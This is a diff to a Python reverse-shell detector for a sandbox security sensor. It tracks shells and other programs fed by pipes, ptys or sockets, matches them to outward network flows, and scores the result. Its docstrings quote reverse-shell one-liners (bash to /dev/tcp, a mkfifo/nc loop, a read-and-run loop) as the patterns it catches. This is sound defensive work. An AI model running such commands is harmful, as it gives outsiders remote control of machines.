@@ -2,24 +2,27 @@
 
 Directly, the evidence is the socket itself: nothing ordinary runs with an outgoing connection as its input and output,
 whatever it is called. Where a pipe or pty stands between, an agent that keeps a shell and reads a model's replies has
-the same shape: there, what the flow speaks, and commands that follow its data, decide. Accepted flows are what sshd and
-inetd hand out. A socket that never becomes a flow is a unix socketpair: sshd, systemd and Node's pipes.
+the same shape: there, what the flow speaks, and commands that follow its data, decide; a shell under another name is
+known by them too. So is one that reads lines by itself, and gives the flow as output to what it runs. Accepted flows
+are what sshd and inetd hand out. A socket that never becomes a flow is a unix socketpair: sshd, systemd, Node's pipes.
 """
 
 from __future__ import annotations
 
 from collections import Counter
 from collections.abc import Iterable
+from itertools import chain
 
 from msgspec import Struct
 
 from sensor.configdetect import ReverseShellSettings
 from sensor.detect.behavior import behavior, processes, total
 from sensor.detect.bounded import Budget, Levels, PerSandbox
+from sensor.detect.fed import Fed, Watch, inherits
 from sensor.detect.flows import Flow, FlowTable
 from sensor.detect.holding import Holding
 from sensor.detect.world import World
-from sensor.events.activity import NetworkBehavior, NetworkFlow, ProcessCreation
+from sensor.events.activity import Activity, NetworkBehavior, NetworkFlow, ProcessCreation
 
 REVISITED = 4  # shells without a known feeder that a new flow is tried on
 TOGETHER_NS = 10 * 10**9  # a pipeline's parts start together; its connect may wait for a name
@@ -27,11 +30,11 @@ KINDS = frozenset({"socket", "pipe", "pty"})
 Streams = tuple[str, str, str, int, int, int]
 
 
-Subject = ProcessCreation | NetworkFlow  # of the accused
+Subject = ProcessCreation | NetworkFlow  # of whom is looked at
 
 
 class Case(Struct, frozen=True, gc=False):
-    event: Subject
+    event: Activity  # of the accused
     flow: Flow | None
     inner: str  # socket, pipe, pty
     holders: tuple[int, ...] = ()
@@ -47,25 +50,14 @@ class Later(Struct, gc=False):
     event: Subject
 
 
-class Fed:
-    """A shell at a pipe or pty."""
-
-    __slots__ = ("event", "flow", "holders", "since_ns", "stepped_ns", "steps")
-
-    def __init__(self, event: ProcessCreation) -> None:
-        self.event = event
-        self.since_ns = event.monotonic_ns
-        self.flow: Flow | None = None
-        self.holders: tuple[int, ...] = ()
-        self.steps = 0
-        self.stepped_ns = -1
-
-
 class _Sandbox:
     def __init__(self, settings: ReverseShellSettings) -> None:
         self.budget = Budget(settings.scans_a_minute)
         self.later: list[Later] = []
-        self.fed: dict[int, Fed] = {}
+        self.shells = Watch(settings.watched)  # at a pipe or pty, by process
+        self.others = Watch(settings.watched)  # programs there that are no shells by name
+        self.answering = Watch(settings.watched)  # makers of flows that are the output of what is run, by flow
+        self.inverted_ns = -1  # when data last came in on an outward flow after a pause
         self.levels = Levels(settings.marks, settings.keys, settings.events_an_hour)
 
 
@@ -93,13 +85,15 @@ class ReverseShell:
 
     def left(self, sandbox_id: int, tgid: int) -> None:
         if (sandbox := self._sandboxes.peek(sandbox_id)) is not None:
-            sandbox.fed.pop(tgid, None)
+            sandbox.shells.drop(tgid)
+            sandbox.others.drop(tgid)
 
     def executed(self, table: FlowTable, event: ProcessCreation) -> list[NetworkBehavior]:
-        """A program whose standard input is a socket, pipe or pty."""
+        """A program whose standard input is a socket, pipe or pty, or its output a socket."""
         sandbox = self._sandboxes.get(event.SandboxId)
         produced = self._step(sandbox, event)
-        sandbox.fed.pop(event.ProcessId, None)
+        sandbox.shells.drop(event.ProcessId)
+        sandbox.others.drop(event.ProcessId)
         if event.StandardInput == "socket":
             streams = _streams(event)
             if _same(streams) and (flow := table.by_inode(event.StandardInputInode)) is not None:
@@ -107,14 +101,25 @@ class ReverseShell:
             if _same(streams):
                 self._wait(sandbox, event, event.monotonic_ns)
                 return produced
-        shell, _ = self._is_shell(event.Image)
-        if shell and event.StandardOutput in KINDS:
-            if len(sandbox.fed) >= self._settings.watched:
-                del sandbox.fed[next(iter(sandbox.fed))]
-                self._counters["reverse_shell_shells_evicted"] += 1
-            sandbox.fed[event.ProcessId] = Fed(event)
-            self._wait(sandbox, event, event.monotonic_ns)
+        elif event.StandardOutput == "socket":
+            produced += self._answered(sandbox, table, event)
+        if event.StandardInput in KINDS and event.StandardOutput in KINDS:
+            self._watch(sandbox, table, event)
         return produced
+
+    def _watch(self, sandbox: _Sandbox, table: FlowTable, event: ProcessCreation) -> None:
+        """Whoever feeds a shell is looked for; of other programs, of which every pipeline has some, the parent."""
+        shell, _ = self._is_shell(event.Image)
+        watch = sandbox.shells if shell else sandbox.others
+        if not shell and event.StandardInput == "socket":
+            return
+        fed = watch.put(event.ProcessId, Fed(event, event.StandardInput, shell=shell))
+        if shell:
+            self._counters["reverse_shell_shells_evicted"] += watch.evicted
+            watch.evicted = 0
+            self._wait(sandbox, event, event.monotonic_ns)
+        else:
+            fed.flow = self._outward(table, (event.ParentProcessId,))
 
     def began(self, flow: Flow, event: NetworkFlow) -> None:
         """An outward flow: `bash -i >& /dev/tcp/…` and a script's dup2 put it on their streams after the connect."""
@@ -123,33 +128,38 @@ class ReverseShell:
             type(later.event) is NetworkFlow and later.event.ProcessId == event.ProcessId for later in sandbox.later
         ):
             self._wait(sandbox, event, event.monotonic_ns)
-        unfed = [fed for fed in sandbox.fed.values() if fed.flow is None or fed.flow.ended]
+        unfed = [fed for fed in chain(sandbox.shells, sandbox.others) if fed.unfed]
         for fed in unfed:
             if event.ProcessId == fed.event.ParentProcessId or event.ProcessId in fed.holders:
-                fed.flow = flow
-        for fed in unfed[-REVISITED:]:
-            if fed.flow is not flow and event.monotonic_ns - fed.since_ns <= TOGETHER_NS:
-                self._wait(sandbox, fed.event, event.monotonic_ns)
+                fed.found(flow)
+        for fed in [fed for fed in unfed if fed.shell][-REVISITED:]:
+            if fed.unfed and event.monotonic_ns - fed.since_ns <= TOGETHER_NS:
+                self._revisit(sandbox, fed, event.monotonic_ns)
 
     def inversion(self, flow: Flow) -> None:
         """Data came in on an outward flow: whom its maker feeds may only now be known."""
         sandbox = self._sandboxes.peek(flow.event.SandboxId)
         if sandbox is None or not flow.outward:
             return
-        for fed in sandbox.fed.values():
-            if (fed.flow is None or fed.flow.ended) and fed.event.ParentProcessId == flow.tgid:
-                fed.flow = flow
+        sandbox.inverted_ns = flow.last_inversion_ns
+        for fed in chain(sandbox.shells, sandbox.others, sandbox.answering):
+            if fed.unfed and fed.event.ParentProcessId == flow.tgid:
+                fed.found(flow)
+            if fed.flow is flow:
+                fed.before = flow.bytes_in
 
     def recognised(self, flow: Flow, now_ns: int) -> list[NetworkBehavior]:
-        """First bytes told what a flow speaks: a prompt that goes out weighs."""
+        """First bytes told what a flow speaks: a prompt that goes out weighs, and is worth looking for its shell."""
         sandbox = self._sandboxes.peek(flow.event.SandboxId)
         if sandbox is None or not flow.outward:
             return []
-        produced = []
-        for fed in sandbox.fed.values():
-            if fed.flow is flow:
-                produced += self._tell_fed(sandbox, fed, now_ns)
-        return produced
+        fed_by_it = [
+            fed for fed in chain(sandbox.shells, sandbox.others, sandbox.answering) if fed.flow is flow
+        ]  # fmt: skip
+        if flow.shell and not fed_by_it:
+            for fed in [fed for fed in sandbox.others if fed.unfed][-REVISITED:]:
+                self._revisit(sandbox, fed, now_ns)
+        return [told for fed in fed_by_it for told in self._tell_fed(sandbox, fed, now_ns)]
 
     def tick(self, tables: PerSandbox[FlowTable], now_ns: int) -> list[NetworkBehavior]:
         produced: list[NetworkBehavior] = []
@@ -179,15 +189,26 @@ class ReverseShell:
         sandbox.later.append(Later(from_ns + self._settings.check_ms[tries] * 10**6, from_ns, tries, event))
         self._waiting[event.SandboxId] = None
 
+    def _revisit(self, sandbox: _Sandbox, fed: Fed, now_ns: int) -> None:
+        """Look for who feeds it, unless that waits already."""
+        if isinstance(fed.event, ProcessCreation) and all(later.event is not fed.event for later in sandbox.later):
+            self._wait(sandbox, fed.event, now_ns)
+
     def _look(
         self, sandbox: _Sandbox, table: FlowTable, event: Subject, tries: int, now_ns: int
     ) -> list[NetworkBehavior] | None:
         """None: look again."""
         if isinstance(event, NetworkFlow):
             return self._look_at_maker(sandbox, table, event)
-        fed = sandbox.fed.get(event.ProcessId)
-        if fed is not None:
-            return self._look_at_feeder(sandbox, table, fed, now_ns)
+        fed = sandbox.shells.get(event.ProcessId) or sandbox.others.get(event.ProcessId)
+        if fed is not None and fed.event is event:
+            return self._look_at_feeder(sandbox, table, fed, event, now_ns)
+        # At a pipe, it ended or runs another program by now.
+        return self._look_at_socket(sandbox, table, event, tries, now_ns) if event.StandardInput == "socket" else []
+
+    def _look_at_socket(
+        self, sandbox: _Sandbox, table: FlowTable, event: ProcessCreation, tries: int, now_ns: int
+    ) -> list[NetworkBehavior] | None:
         streams = _streams(event)
         flow = table.by_inode(event.StandardInputInode) or self._without_inode(table, event, now_ns)
         if flow is not None:
@@ -240,17 +261,19 @@ class ReverseShell:
         return end is not None and any(True for tgid in self._holding.family(end.tgid) for _ in table.outward_of(tgid))
 
     def _look_at_feeder(
-        self, sandbox: _Sandbox, table: FlowTable, fed: Fed, now_ns: int
+        self, sandbox: _Sandbox, table: FlowTable, fed: Fed, event: ProcessCreation, now_ns: int
     ) -> list[NetworkBehavior] | None:
         """By parentage first; by who holds the pipes, as in `mkfifo f; sh <f | nc host >f`, where a flow might fit."""
-        if fed.flow is not None and not fed.flow.ended:
+        if not fed.unfed:
             return []
-        event = fed.event
-        fed.flow = self._outward(table, (event.ParentProcessId, *self._holding.family(event.ParentProcessId)))
-        if fed.flow is None and any(flow.outward for flow in table.flows.values()):
+        flow = self._outward(table, (event.ParentProcessId, *self._holding.family(event.ParentProcessId)))
+        if flow is None and any(flow.outward for flow in table.flows.values()):
             fed.holders = self._feeders(sandbox, event, now_ns)
-            fed.flow = self._outward(table, fed.holders)
-        return None if fed.flow is None else self._tell_fed(sandbox, fed, now_ns)
+            flow = self._outward(table, fed.holders)
+        if flow is None:
+            return None
+        fed.found(flow)
+        return self._tell_fed(sandbox, fed, now_ns)
 
     def _feeders(self, sandbox: _Sandbox, event: ProcessCreation, now_ns: int) -> tuple[int, ...]:
         found: dict[int, None] = {}
@@ -273,35 +296,40 @@ class ReverseShell:
         return min(flows, key=lambda flow: (not flow.shell, flow.http, flow.started_ns), default=None)
 
     def _step(self, sandbox: _Sandbox, event: ProcessCreation) -> list[NetworkBehavior]:
-        """A program started by a watched shell, shortly after data came in on the flow that feeds it."""
-        fed = sandbox.fed.get(event.ParentProcessId)
-        if fed is None or fed.flow is None:
+        """A program started by a watched one, shortly after data came in on the flow that feeds it. Where none is
+        known, and it is some flow's data that came in, whose is looked for."""
+        fed = sandbox.shells.get(event.ParentProcessId)
+        if fed is None:
+            fed = sandbox.others.get(event.ParentProcessId)
+            if fed is None or not inherits(event, fed.event):
+                return []
+        known = fed.flow if not fed.unfed else None
+        came_ns = known.last_inversion_ns if known is not None else sandbox.inverted_ns
+        if not fed.stepped(came_ns, event.monotonic_ns, self._settings, self._world):
             return []
-        came_ns = fed.flow.last_inversion_ns
-        if came_ns == fed.stepped_ns or not 0 <= event.monotonic_ns - came_ns <= self._settings.step_ms * 10**6:
+        if known is None:
+            self._revisit(sandbox, fed, event.monotonic_ns)
             return []
-        fed.stepped_ns = came_ns
-        fed.steps += 1
+        return self._tell_fed(sandbox, fed, event.monotonic_ns)
+
+    def _answered(self, sandbox: _Sandbox, table: FlowTable, event: ProcessCreation) -> list[NetworkBehavior]:
+        """`while read line; do $line >&5; done <&5`: a flow is the output of what is run after its data."""
+        flow = table.by_inode(event.StandardOutputInode)
+        if flow is None or not flow.outward or flow.last_inversion_ns < 0:
+            return []
+        fed = sandbox.answering.get(flow.cookie) or sandbox.answering.put(
+            flow.cookie, Fed(flow.event, "socket", shell=any(self._is_shell(flow.event.Image)), flow=flow)
+        )
+        if not fed.stepped(flow.last_inversion_ns, event.monotonic_ns, self._settings, self._world):
+            return []
         return self._tell_fed(sandbox, fed, event.monotonic_ns)
 
     def _tell_fed(self, sandbox: _Sandbox, fed: Fed, now_ns: int) -> list[NetworkBehavior]:
         flow = fed.flow
         if flow is None:
             return []
-        if flow.shell:
-            wire = 45
-        elif flow.http:
-            wire = 0
-        else:
-            wire = 10 if flow.application else 20
-        parts = {
-            "fed": 20,
-            "wire": wire,
-            "steps": 25 if fed.steps >= self._settings.steps else 10 * (fed.steps > 0),
-            "private_peer": -10 if flow.event.DestinationIsPrivate else 0,
-        }
-        case = Case(fed.event, flow, fed.event.StandardInput, (*fed.holders, flow.tgid), fed.steps)
-        return self._emit(sandbox, case, parts, now_ns)
+        case = Case(fed.event, flow, fed.inner, (*fed.holders, flow.tgid), fed.steps)
+        return self._emit(sandbox, case, fed.parts(flow, self._settings), now_ns)
 
     def _emit(self, sandbox: _Sandbox, case: Case, parts: dict[str, int], now_ns: int) -> list[NetworkBehavior]:
         event, flow = case.event, case.flow
